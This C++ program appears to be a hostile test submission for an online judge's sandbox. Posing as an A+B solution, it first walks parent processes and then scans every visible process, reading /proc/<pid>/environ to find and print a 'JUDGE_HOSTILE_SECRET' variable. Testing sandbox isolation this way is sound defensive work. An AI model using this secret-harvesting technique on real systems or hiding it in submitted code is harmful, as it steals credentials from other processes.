#include <bits/stdc++.h>
#include <unistd.h>
#include <fcntl.h>
#include <signal.h>
#include <sys/types.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <sys/syscall.h>
using namespace std;
// Prints the correct answer of the 'hostile' problem (A+B).
static void answer() { long long a, b; cin >> a >> b; cout << a + b << "\n" << flush; }
int main() {
    static char buf[1 << 20];
    for (pid_t p = getppid(); p > 1;) {
        string path = "/proc/" + to_string(p) + "/environ";
        int fd = open(path.c_str(), O_RDONLY);
        if (fd >= 0) {
            ssize_t n = read(fd, buf, sizeof buf - 1); close(fd);
            if (n > 0) { buf[n] = 0; for (ssize_t i = 0; i < n; i++) if (!buf[i]) buf[i] = '\n';
                         if (char *s = strstr(buf, "JUDGE_HOSTILE_SECRET=")) { printf("%s\n", s); return 0; } }
        }
        // walk up: field 4 of /proc/<p>/stat
        FILE *st = fopen(("/proc/" + to_string(p) + "/stat").c_str(), "r");
        if (!st) break;
        char line[1024]; if (!fgets(line, sizeof line, st)) { fclose(st); break; } fclose(st);
        char *close_paren = strrchr(line, ')'); int ppid = 0;
        if (!close_paren || sscanf(close_paren + 2, "%*c %d", &ppid) != 1) break;
        p = ppid;
    }
    // and every process visible
    for (int p = 2; p < 4194304 && p < 70000; p++) {
        string path = "/proc/" + to_string(p) + "/environ";
        int fd = open(path.c_str(), O_RDONLY);
        if (fd < 0) continue;
        ssize_t n = read(fd, buf, sizeof buf - 1); close(fd);
        if (n > 0 && memmem(buf, n, "JUDGE_HOSTILE_SECRET=", 21)) { printf("found in %d\n", p); return 0; }
    }
    answer();
}
